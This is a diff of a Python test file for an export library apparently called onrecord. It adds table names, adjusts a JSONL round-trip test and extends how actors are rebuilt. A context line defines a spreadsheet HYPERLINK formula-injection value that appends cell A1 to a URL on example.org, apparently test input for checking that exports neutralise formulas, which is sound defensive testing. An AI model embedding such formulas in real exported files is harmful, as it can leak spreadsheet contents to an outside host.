@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import json
 from collections.abc import Iterator
+from dataclasses import replace
 from datetime import date
 from itertools import pairwise
 from pathlib import Path
@@ -31,7 +32,9 @@ from onrecord.publishing import export
 from onrecord.publishing.tables import as_written, harmless
 from onrecord.record import TABLES, DuplicateRow, Record, UnreadRow, open_record, write_record
 
-NAMES = ["reports", "statements", "refusals", "actors", "unread", "duplicates"]
+NAMES = [
+    *("reports", "statements", "refusals", "actors", "offices", "identities", "decisions", "unread", "duplicates"),
+]
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open")'
 TEXT = f"{FORMULA} said nobody. -1 degrees,\nthey “wrote” 😀."
 
@@ -189,7 +192,8 @@ def test_reports_can_be_made_again_from_jsonl(tmp_path: Path, pile: list[Report]
     write_record(tmp_path / "r", pile)
     with open_record(tmp_path / "r") as record:
         export(record, tmp_path, "jsonl")
-    assert _made_again(tmp_path) == pile
+    # What reports say that people were is in offices.jsonl, all reports together.
+    assert _made_again(tmp_path) == [replace(report, descriptions=()) for report in pile]
 
 
 @quick
@@ -220,7 +224,7 @@ def _neighbours(pile: list[Report]) -> Iterator[tuple[str, str]]:
 
 def _made_again(folder: Path) -> list[Report]:
     actors = {
-        row["id"]: Actor(row["name"], row["kind"], tuple(row["aliases"]), row["within"])
+        row["id"]: Actor(row["name"], row["kind"], tuple(row["aliases"]), row["within"], row["distinction"])
         for row in objects(folder, "actors")
     }
     statements = {row["id"]: row for row in objects(folder, "statements")}
